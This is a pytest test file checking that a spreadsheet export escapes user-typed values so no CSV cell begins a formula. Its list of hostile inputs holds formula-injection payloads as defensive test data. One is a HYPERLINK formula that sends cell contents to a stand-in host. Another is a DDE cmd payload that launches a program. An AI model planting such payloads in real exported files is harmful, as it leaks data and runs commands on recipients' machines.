"""Sheets: whatever anybody typed is text in a spreadsheet, and never a formula."""

import copy
import csv
import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sharewell_hub.disclosures.record import record_of
from sharewell_hub.exports.sheets import as_text, sheets_of

STARTS = "=+-@\t\r\n"
HOSTILE = [
    '=HYPERLINK("https://nowhere.example?"&A1,"Press")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)", "\t=1",
    "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "−1", " =1", "\u00a0=1",
    "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "\u2003+1",
]  # fmt: skip
FREE = st.text(max_size=40) | st.builds(
    "{}{}{}".format,
    st.sampled_from(["", " ", "\ufeff", "\u200b", "\u3000", "\x00", '"']),
    st.sampled_from([*STARTS, "＝", "＋", "－", "＠", "﹦", "−", ";=", ",="]),
    st.text(max_size=20),
)


def begins_a_formula(cell):
    seen = unicodedata.normalize("NFKC", cell)
    while seen and (unicodedata.category(seen[0])[0] in "ZC" and seen[0] not in "\t\r\n"):
        seen = seen[1:]
    return seen[:1] in (*STARTS, "−") and seen != ""


def cells(sheets):
    for name, held in sheets.items():
        rows = list(csv.reader(io.StringIO(held.decode("utf-8-sig"), newline="")))
        assert len({len(row) for row in rows}) == 1, name
        yield from (cell for row in rows for cell in row)


@pytest.mark.parametrize("typed", HOSTILE, ids=ascii)
def test_a_formula_becomes_text(typed):
    assert as_text(typed) == f"'{typed}"
    assert begins_a_formula(typed) and not begins_a_formula(as_text(typed))


@pytest.mark.parametrize("typed", ["He said = nothing", "", "4 Elm Road", "x@y.example", "'=1"])
def test_other_words_stay_as_they_are(typed):
    assert as_text(typed) == typed


@pytest.fixture
def record(sent, teacher):
    return record_of(teacher, sent.decision)


@settings(max_examples=300)
@given(st.data())
def test_no_cell_of_any_sheet_begins_a_formula(record, data):
    told = copy.deepcopy(record)
    typed = data.draw(st.lists(FREE, min_size=6, max_size=6))
    told["worry"]["items"][0]["words"] = typed[0]
    told["asked"][0]["said"], told["asked"][0]["by"] = typed[1], typed[2]
    told["reasons"][0]["cites"] = [typed[3]]
    shared = told["disclosures"][0]
    shared["items"][0]["needed_because"], shared["to"]["service"] = typed[4], typed[5]
    found = list(cells(sheets_of(told)))
    assert not [cell for cell in found if begins_a_formula(cell)]
    for each in typed:
        assert any(each in cell for cell in found), "nothing is lost"
